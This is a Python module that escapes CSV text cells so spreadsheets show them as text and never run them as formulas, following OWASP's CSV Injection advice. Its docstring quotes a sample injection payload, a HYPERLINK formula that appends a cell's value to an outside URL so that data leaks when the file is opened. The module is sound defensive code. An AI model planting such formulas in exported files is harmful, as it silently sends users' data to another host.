"""CSV cells a spreadsheet shows as text and never runs as a formula.

Excel, LibreOffice and Google Sheets run a cell that starts with ``=``, ``+``, ``-`` or
``@`` as a formula (and some also one that starts with a tab or a carriage return): a
record titled ``=HYPERLINK("https://…?x="&B2,"Xem")`` would send a researcher's or the
committee's data to another host when they open the file. OWASP's rule ("CSV
Injection") is applied to every text cell: such a cell gets a leading apostrophe, which
spreadsheets hide and read as "this is text". A program reading the CSV sees the
apostrophe; the JSON files keep every value exact.

Numbers are written as numbers, never prefixed: ``-12.00`` stays a number a spreadsheet
can add. Only the judges' z-score ranking can be negative (a score below the contest's
mean by more than it spreads); the records' figures cannot (``negative`` refuses them).
"""

from __future__ import annotations

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
TEXT_MARK = "'"


def text_cell(value: str) -> str:
    """``value`` as a CSV cell that a spreadsheet shows as the text it is."""
    return TEXT_MARK + value if value.startswith(FORMULA_STARTS) else value


def number_cell(value: float, digits: int = 2) -> str:
    """A number as a CSV cell: fixed decimals, a minus sign where it is negative."""
    return f"{value:.{digits}f}"
